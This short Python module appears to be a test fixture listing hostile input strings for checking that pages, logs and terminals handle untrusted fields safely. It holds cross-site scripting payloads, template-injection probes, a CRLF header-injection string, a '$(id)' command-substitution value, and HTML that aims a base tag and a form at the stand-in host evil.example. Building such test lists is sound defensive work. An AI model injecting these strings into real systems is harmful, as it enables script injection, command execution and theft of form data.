"""Text that attacks a page, a log or a terminal, for every field that a stranger fills."""

from __future__ import annotations

from typing import Final

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</textarea></title></style><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "&lt;b&gt; &#x3c;script&#x3e; %3Cscript%3E",
    "<!-- --><base href=//evil.example><meta http-equiv=refresh content=0>",
    "\u202eevil\u2066 \u200b\ufeff\u2028\u0085 \U000e0041",
    "a\r\nSet-Cookie: x=y\r\n\r\n<b>",
    "`'\"$(id);| & \\ \x1b[31m",
    "<form action=//evil.example><input name=key><button formaction=//evil.example>",
)

TOGETHER: Final = tuple(" ".join(PAYLOADS[start::4]) for start in range(4))
"""The same in fewer texts, for what is slow to ask."""
